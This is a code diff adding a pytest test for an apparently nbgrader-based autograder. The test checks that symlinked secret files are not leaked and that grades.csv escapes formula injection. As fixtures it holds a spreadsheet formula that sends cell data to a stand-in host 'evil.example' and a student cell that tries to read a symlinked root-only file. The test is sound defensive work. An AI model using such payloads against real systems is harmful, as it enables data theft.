@@ -178,3 +178,42 @@ def test_grade_cells_find_the_notebook_for_sandboxed_checks(tmp_path, monkeypatc
     monkeypatch.chdir(tmp_path)
     coursework.grade_cell("01", "generator", tmp_path / "artifacts", "smoke")  # raises AssertionError on failure
     assert capsys.readouterr().out.startswith("[pass] ")
+
+
+SECRET = "root-only-secret-of-the-nbgrader-route"
+FORMULA = '=HYPERLINK("evil.example?"&A1,"open")'  # no slash: a folder name
+
+
+def test_nbgrader_follows_no_symlink_and_always_exports(tmp_path):
+    """A symlink to a root-only file is neither read nor copied; a dangling one stops nobody; a student whose
+    folder cannot be staged is in grades.csv with the reason; no cell of it starts a formula."""
+    import csv
+
+    course = new_course(tmp_path, "00_warmup")
+    secret = tmp_path / "secret"
+    secret.write_text(SECRET)
+    secret.chmod(0o600)
+
+    def reads_leak(nb):
+        cell(nb, "answers").source += "\nimport os\nprint('LEAK', open('leak.txt').read() if os.path.exists('leak.txt') else None)"
+
+    alice = variant(course / "submitted" / "alice", "00_warmup", reads_leak) / "00_warmup"
+    (alice / "leak.txt").symlink_to(secret)
+    (alice / "dangling.txt").symlink_to(tmp_path / "nowhere")
+    (course / "submitted" / FORMULA).mkdir()
+    (course / "submitted" / FORMULA / "00_warmup").symlink_to(alice)  # the copy fails: not a regular folder
+
+    csv_path = autograde(course, ["00_warmup"], profile="smoke")
+
+    rows = {r["student_id"]: r for r in csv.DictReader(open(csv_path, newline=""))}
+    assert set(rows) == {"alice", "'" + FORMULA}
+    assert float(rows["alice"]["score"]) == 4 and rows["alice"]["autograder_error"] == ""
+    assert float(rows["'" + FORMULA]["score"]) == 0
+    assert "00_warmup is not a regular folder; it is not graded" in rows["'" + FORMULA]["autograder_error"]
+    autograded = course / "autograded"
+    assert not any(p.name in ("leak.txt", "dangling.txt") for p in autograded.rglob("*"))
+    assert not [p for p in autograded.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]
+    feedback = nbformat.read(autograded / "alice" / "00_warmup" / "00_warmup.ipynb", as_version=4)
+    assert "LEAK None" in "".join(o.get("text", "") for o in cell(feedback, "answers").outputs)
+    assert not (course / ".autograde-submitted").exists()
+    assert (alice / "leak.txt").is_symlink()  # the student's own files are untouched
